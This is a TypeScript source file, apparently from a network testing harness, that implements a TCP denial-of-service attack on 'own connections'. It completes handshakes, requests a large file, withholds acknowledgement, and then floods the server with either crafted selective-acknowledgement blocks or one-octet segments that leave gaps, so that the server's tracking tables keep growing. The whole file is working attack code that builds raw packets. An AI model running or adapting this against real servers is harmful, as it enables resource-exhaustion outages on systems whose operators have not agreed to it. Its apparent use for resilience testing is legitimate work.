/**
 * An attacker who plays by no rules on connections of his own: he asks for a large file on each, acknowledges nothing of it, and then
 * has the server's tables of what is missing grow by the smallest segments that there are. Sans-IO: packets in, packets out.
 */
import { type PacketBatch, VNET_HEADER_OCTETS } from '../../node/tun/packet-batch.ts'
import { createTcpHeader, packetHeadOctets, type TcpHeader, writeTcpPacket } from '../../node/wire/emit.ts'
import { parsePacket } from '../../node/wire/parse.ts'
import { ACK, createSegment, PSH, RST, SYN } from '../../node/wire/segment.ts'
import { mix } from './attacks.ts'

/** Of the flood of selective acknowledgements, and of segments of one octet that leave gaps. */
export const OWN = ['sack', 'tiny'] as const
export type Own = (typeof OWN)[number]

const FIRST_PORT = 20_000
/** Small, so that there is much to acknowledge apart. */
const MSS = 536
const BLOCKS = 3
/** Of our octets that we leave gaps in: within the window that the server offers. */
const GAPS = 15_000

interface Connection {
  readonly port: number
  sndNxt: number
  /** What we acknowledge: all before the response. */
  rcvNxt: number
  /** Octets of the response seen beyond that. */
  ahead: number
  tsRecent: number
  established: boolean
}

export class OwnConnections {
  readonly #kind: Own
  readonly #connections: readonly Connection[]
  readonly #header = createTcpHeader()
  readonly #segment = createSegment()
  readonly #request: Uint8Array

  constructor(kind: Own, count: number, own: number, vip: number, port: number, path: string) {
    this.#kind = kind
    this.#request = new TextEncoder().encode(`GET ${path} HTTP/1.1\r\nHost: flood\r\n\r\n`)
    this.#connections = Array.from({ length: count }, (_, index) => ({
      ...{
        port: FIRST_PORT + index,
        sndNxt: mix(index),
        rcvNxt: 0,
        ahead: 0,
        tsRecent: 0,
        established: false,
      },
    }))
    Object.assign(this.#header, {
      src2: 0xffff,
      src3: own,
      dst2: 0xffff,
      dst3: vip,
      dstPort: port,
      window: 65_535,
    })
  }

  get established(): number {
    return this.#connections.filter(({ established, ahead }) => established && ahead > 0).length
  }

  /** Asks for those that do not stand yet. */
  open(batch: PacketBatch): void {
    for (const connection of this.#connections) {
      if (connection.established) continue
      this.#emit(batch, connection, header => {
        Object.assign(header, { flags: SYN, mss: MSS, windowScale: 7, sackPermitted: true, ack: 0 })
      })
    }
  }

  /** What the server sent; requests go into `out`. */
  receive(batch: PacketBatch, out: PacketBatch): void {
    const segment = this.#segment
    for (let index = 0; index < batch.count; index++) {
      const at = batch.offsetOf(index) + VNET_HEADER_OCTETS
      const octets = batch.headOctetsOf(index) - VNET_HEADER_OCTETS
      if (parsePacket(batch.arena, batch.view, at, octets, true, segment) !== 'tcp') continue
      const connection = this.#connections[segment.dstPort - FIRST_PORT]
      if (connection === undefined) continue
      if (segment.hasTimestamps) connection.tsRecent = segment.tsVal
      const isAnswer = (segment.flags & (SYN | ACK)) === (SYN | ACK)
      if (isAnswer && !connection.established) this.#establish(connection, out)
      else
        connection.ahead = Math.max(
          connection.ahead,
          (segment.seq + segment.payloadLength - connection.rcvNxt) | 0,
        )
    }
  }

  #establish(connection: Connection, out: PacketBatch): void {
    connection.established = true
    connection.rcvNxt = (this.#segment.seq + 1) | 0
    connection.sndNxt = (connection.sndNxt + 1) | 0
    this.#emit(
      out,
      connection,
      header => {
        header.flags = ACK | PSH
      },
      this.#request,
    )
    connection.sndNxt = (connection.sndNxt + this.#request.length) | 0
  }

  /** Packet `number` of the attack; false where the batch is full. */
  write(batch: PacketBatch, number: number): boolean {
    const connection = this.#connections[number % this.#connections.length] as Connection
    if (this.#kind === 'sack')
      return this.#emit(batch, connection, header => acknowledgeApart(header, connection, number))
    const gap = 2 * (1 + (Math.abs(mix(number)) % GAPS))
    return this.#emit(
      batch,
      connection,
      header => {
        header.seq = (connection.sndNxt + gap) | 0
      },
      ONE_OCTET,
    )
  }

  /** Ends them all, as a client does that wants no more. */
  reset(batch: PacketBatch): void {
    for (const connection of this.#connections) {
      this.#emit(batch, connection, header => {
        header.flags = RST | ACK
      })
    }
  }

  #emit(
    batch: PacketBatch,
    { port, sndNxt, rcvNxt, tsRecent }: Connection,
    change: (header: TcpHeader) => void,
    payload: Uint8Array = NO_OCTETS,
  ): boolean {
    const header = this.#header
    Object.assign(header, { srcPort: port, seq: sndNxt, ack: rcvNxt, flags: ACK, mss: 0, windowScale: -1 })
    Object.assign(header, { sackPermitted: false, sackCount: 0, hasTimestamps: true, tsEcr: tsRecent })
    header.tsVal = (header.tsVal + 1) | 0
    header.payloadLength = payload.length
    change(header)
    const octets = packetHeadOctets(header)
    if (!batch.fits(octets + payload.length, 0)) return false
    const at = batch.begin(octets + payload.length)
    writeTcpPacket(batch.arena, batch.view, at, header)
    batch.arena.set(payload, at + octets)
    return true
  }
}

const NO_OCTETS = new Uint8Array(0)
const ONE_OCTET = new Uint8Array([120])

/** Three segments out of what is in flight, each time others, and never the first. */
function acknowledgeApart(header: TcpHeader, { rcvNxt, ahead }: Connection, number: number): void {
  const segments = Math.max(1, Math.floor(ahead / MSS) - 1)
  header.sackCount = BLOCKS
  for (let block = 0; block < BLOCKS; block++) {
    const left = (rcvNxt + MSS * (1 + (Math.abs(mix(number * BLOCKS + block)) % segments))) | 0
    header.sackEdges[2 * block] = left
    header.sackEdges[2 * block + 1] = (left + MSS) | 0
  }
}
